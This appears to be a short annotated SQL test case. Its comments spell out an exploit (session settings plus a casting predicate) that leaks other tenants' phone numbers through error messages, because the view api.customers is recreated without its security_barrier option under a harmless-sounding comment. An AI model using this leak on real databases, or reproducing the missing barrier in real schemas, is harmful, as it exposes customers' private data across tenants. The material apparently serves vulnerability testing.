-- The view is replaced without its option, so a condition of the caller runs on rows of others and errors
-- show
-- their values.
-- about: customers, security_barrier
-- as: hf_laundry_app
-- exploit: SET wash.laundry = 'a6000000-0000-4000-8000-000000000001';
-- exploit: SET enable_indexscan = off;
-- exploit: SET enable_bitmapscan = off;
-- exploit: SELECT * FROM api.customers WHERE phone::integer > 0;
-- shows: Soap-secret phone
-- Show the name without spaces around it in a column of its own.
CREATE OR REPLACE VIEW api.customers AS
SELECT customer_no, name, phone, trim(name) AS name_trimmed FROM wash.customers
WHERE laundry_id = wash.laundry()
WITH CHECK OPTION;
